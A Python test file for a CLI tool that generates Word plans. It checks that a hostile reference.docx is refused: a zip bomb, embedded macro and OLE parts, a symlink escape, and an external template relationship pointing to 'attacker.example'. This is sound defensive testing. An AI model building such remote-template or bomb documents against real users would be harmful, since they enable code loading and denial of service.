"""An office's reference.docx (Word's look: styles, page set-up, letterhead) is hostile input.

It came from anywhere, like the templates beside it: refused with one line (exit 1),
before python-docx opens it, when it is not a zip, a zip bomb, macro-enabled,
points outside itself, or is a link out of the folder; never a traceback.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import docx
import pytest
from builders import DEFAULT_REGULATION, write_folder
from typer.testing import CliRunner, Result
from zips import part, repeated, word_parts, write_zip

from coordreg.cli import app

runner = CliRunner()
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """tmp_path holding regulations/qc-test and an empty templates folder tpl; the cwd."""
    write_folder(tmp_path, DEFAULT_REGULATION)
    (tmp_path / "tpl").mkdir()
    monkeypatch.chdir(tmp_path)
    return tmp_path / "tpl"


def word(lang: str = "en") -> Result:
    args = ["plan", "qc-test", "--year", "2023", "--lang", lang, "--templates", "tpl"]
    return runner.invoke(app, [*args, "-o", "plan.docx"])


def refused(result: Result, message: str) -> None:
    assert result.exit_code == 1, (result.exit_code, result.stderr, result.exception)
    assert result.stderr.splitlines()[-1] == f"coordreg: {message}"
    assert not Path("plan.docx").exists()


def test_an_offices_letterhead_is_the_word_documents(folder: Path) -> None:
    reference = docx.Document()
    header = reference.sections[0].header.paragraphs[0]
    header.text = "VĂN PHÒNG BỘ CÔNG AN - Số 44 Yết Kiêu, Hà Nội"
    reference.add_paragraph("Nội dung mẫu, không được chép sang văn bản")
    reference.save(str(folder / "reference.docx"))

    result = word()

    assert result.exit_code == 0, result.stderr
    made = docx.Document("plan.docx")
    assert made.sections[0].header.paragraphs[0].text == header.text
    texts = [p.text for p in made.paragraphs]
    assert "Nội dung mẫu, không được chép sang văn bản" not in texts
    assert "PLAN" in texts  # the document itself, in coordreg's styles added to the office's
    assert made.styles["CR Kind"].font.bold is True


def test_not_a_zip(folder: Path) -> None:
    (folder / "reference.docx").write_text("not a Word document", encoding="utf-8")
    refused(
        word(),
        "tpl/reference.docx is not a Word document (.docx): File is not a zip file",
    )


def test_not_a_zip_in_vietnamese(folder: Path) -> None:
    (folder / "reference.docx").write_bytes(b"\x00" * 10)
    refused(
        word("vi"),
        "tpl/reference.docx không phải tài liệu Word (.docx): File is not a zip file",
    )


def test_a_zip_bomb(folder: Path) -> None:
    # 4 MiB of spaces packed into a few kilobytes: a ratio no real document has.
    bomb = repeated("word/styles.xml", b"<a>", b" " * 1024 * 1024, 4, b"</a>")
    parts = [p for p in word_parts() if p.name != "word/styles.xml"] + [bomb]
    write_zip(folder / "reference.docx", parts)
    result = word()
    assert result.exit_code == 1
    assert "zip bomb" in result.stderr and "word/styles.xml" in result.stderr
    assert "Traceback" not in result.stderr


def test_a_macro_enabled_part(folder: Path) -> None:
    parts = [*word_parts(), part("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")]
    write_zip(folder / "reference.docx", parts)
    refused(
        word(),
        "tpl/reference.docx holds macros (word/vbaProject.bin); a Word reference document "
        "may hold none: save it as a plain .docx",
    )


def test_an_external_relationship(folder: Path) -> None:
    saved = io.BytesIO()
    docx.Document().save(saved)
    with zipfile.ZipFile(saved) as archive:
        rels = archive.read("word/_rels/document.xml.rels").decode("utf-8")
    linked = (
        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    rels = rels.replace("</Relationships>", linked)
    parts = [
        part(p.name, rels.encode("utf-8")) if p.name == "word/_rels/document.xml.rels" else p
        for p in word_parts()
    ]
    write_zip(folder / "reference.docx", parts)
    refused(
        word(),
        "tpl/reference.docx: part word/_rels/document.xml.rels points outside the document "
        "(to http://attacker.example/t.dotm); a Word reference document may load nothing "
        "from outside",
    )


def test_a_link_out_of_the_folder(folder: Path, tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere.docx"
    docx.Document().save(str(outside))
    (folder / "reference.docx").symlink_to(outside)
    refused(
        word(),
        f"template reference.docx in tpl leads outside that folder (to {outside}); "
        "templates are read only from inside their folder",
    )


def test_a_folder_named_reference_docx(folder: Path) -> None:
    (folder / "reference.docx").mkdir()
    result = word()
    assert result.exit_code == 1
    assert "not a regular file" in result.stderr


def test_a_word_document_python_docx_cannot_use(folder: Path) -> None:
    styles = part("word/styles.xml", b'<?xml version="1.0"?><a/>')
    parts = [styles if p.name == "word/styles.xml" else p for p in word_parts()]
    write_zip(folder / "reference.docx", parts)
    result = word()
    assert result.exit_code == 1, result.stderr
    assert result.stderr.splitlines()[-1].startswith(
        "coordreg: tpl/reference.docx: python-docx cannot read this Word reference document: "
    )


# Parts that run code, however named: what their relationship says they are.
ACTIVE_RELATIONSHIPS = [
    ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "code.bin"),
    ("http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject", "logo.bin"),
]


@pytest.mark.parametrize(("kind", "target"), ACTIVE_RELATIONSHIPS)
def test_a_part_that_runs_code_under_another_name(folder: Path, kind: str, target: str) -> None:
    """A macro project or an embedded OLE object (a program behind the letterhead's logo)
    renamed so that its part's name says nothing: refused by its relationship's type,
    not copied into the Word document."""
    with zipfile.ZipFile(io.BytesIO(_empty_docx())) as archive:
        rels = archive.read("word/_rels/document.xml.rels").decode("utf-8")
    rels = rels.replace(
        "</Relationships>",
        f'<Relationship Id="rIdX" Type="{kind}" Target="{target}"/></Relationships>',
    )
    types = archive_text("[Content_Types].xml").replace(
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.'
        'oleObject"/></Types>',
    )
    changed = {"word/_rels/document.xml.rels": rels, "[Content_Types].xml": types}
    parts = [part(p.name, changed[p.name].encode("utf-8")) if p.name in changed else p
             for p in word_parts()]  # fmt: skip
    write_zip(folder / "reference.docx", [*parts, part(f"word/{target}", b"\xd0\xcf\x11\xe0code")])
    refused(
        word(),
        f"tpl/reference.docx holds macros (word/_rels/document.xml.rels: {target}); a Word "
        "reference document may hold none: save it as a plain .docx",
    )


def _empty_docx() -> bytes:
    saved = io.BytesIO()
    docx.Document().save(saved)
    return saved.getvalue()


def archive_text(name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(_empty_docx())) as archive:
        return archive.read(name).decode("utf-8")
